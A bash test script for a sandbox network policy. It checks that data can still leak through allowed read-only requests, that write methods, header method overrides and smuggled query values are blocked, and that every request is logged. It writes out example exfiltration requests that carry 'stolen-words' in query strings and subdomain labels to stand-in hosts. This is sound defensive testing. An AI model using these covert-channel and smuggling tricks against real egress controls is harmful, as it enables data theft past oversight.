#!/bin/bash
# Saying something through what is allowed (threats.md 34). It cannot be stopped: SECURITY.md says so. What
# can be done is shown here: read-only stays read-only, a rule can name path and query, a wildcard's labels
# and every request are in the log.
. "$(dirname "$0")/../support/tap.sh"

need_sandbox
start_origin --name a.data.test --name '*.data.test' --name api.github.com
T_ENV=("OPENSHELL_CONNECT_TO=api.github.com:443:127.0.0.1:$origin stolen-words.data.test:443:127.0.0.1:$origin" "OPENSHELL_UPSTREAM_CA=$origin_ca")
cat >"$T/work/policy.yaml" <<'EOS'
version: 1
network_policies:
  read:
    endpoints:
      - { host: api.github.com, port: 443, protocol: rest, enforcement: enforce, access: read-only }
      - { host: "*.data.test", port: 443, protocol: rest, enforcement: enforce, access: read-only }
    binaries: [ { path: /usr/bin/curl } ]
EOS
cat >"$T/work/narrow.yaml" <<'EOS'
version: 1
network_policies:
  narrow:
    endpoints:
      - host: api.github.com
        port: 443
        protocol: rest
        enforcement: enforce
        rules:
          - allow: { method: GET, path: /zen, query: { page: { any: ["1", "2"] } } }
    binaries: [ { path: /usr/bin/curl } ]
EOS
ok 'a sandbox' sandbox exfil --policy "$T/work/policy.yaml"
get() { run openshell sandbox exec -n exfil -- curl -sS -m $((8 * T_SLOW)) -o /dev/null -w '%{http_code}\n' "$@"; }
seen() { grep -c "^request $1" "$origin_log"; }

get 'https://api.github.com/zen?page=stolen-words'
is "$out" 200 'what the policy allows can carry words'
get 'https://stolen-words.data.test/zen'
is "$out" 200 'and so can a label below a wildcard'
for method in POST PUT PATCH DELETE; do
	get -X $method --data stolen-words https://api.github.com/zen
	is "$out" 403 "read-only: no $method"
	is "$(seen "$method")" 0 "read-only: and the server sees none"
done
get -X GET -H 'X-HTTP-Method-Override: POST' https://api.github.com/zen
unlike "$out" '^200' 'nor is a method smuggled in a header'
run openshell logs exfil --since 5m -n 0
like "$out" 'l7_decision=allow dst_host=api\.github\.com l7_action=GET l7_target=/zen' 'each request is in the log'
like "$out" 'dst_host=stolen-words\.data\.test' 'and each label of a wildcard host'
like "$out" 'l7_decision=deny .*l7_action=POST' 'and what was refused'

run openshell policy set exfil --policy "$T/work/narrow.yaml" --wait
is "$status" 0 'a policy that names path and query'
get 'https://api.github.com/zen?page=1'
is "$out" 200 'control: as it says'
for query in '' '?page=stolen' '?page=1&page=stolen' '?PAGE=1' '?page=1%00stolen'; do
	get "https://api.github.com/zen$query"
	like "$out" '^(403|400)$' "not with '$query'"
done
get 'https://api.github.com/zen?page=2&x=other-words'
is "$out" 200 'a parameter that no rule names is free, as in NVIDIA OpenShell: a path is the narrower limit'
get 'https://stolen-words.data.test/zen'
unlike "$out" '^200' 'and no wildcard any more'
unlike "$(sed '1,/page=1 /d' "$origin_log")" stolen 'the server heard nothing else'
run openshell sandbox delete exfil
is "$(leftovers)" '' 'nothing is left'
done_testing
